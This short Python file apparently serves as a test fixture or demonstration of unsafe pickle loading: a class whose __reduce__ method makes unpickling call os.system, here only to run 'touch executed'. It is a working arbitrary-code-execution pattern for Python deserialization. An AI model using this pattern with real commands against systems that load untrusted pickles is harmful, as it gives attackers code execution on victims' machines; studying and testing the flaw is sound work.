"""A pickle that runs code when an unsafe loader reads it."""
import os


class Malicious:

    def __reduce__(self):
        return os.system, ('touch executed', )
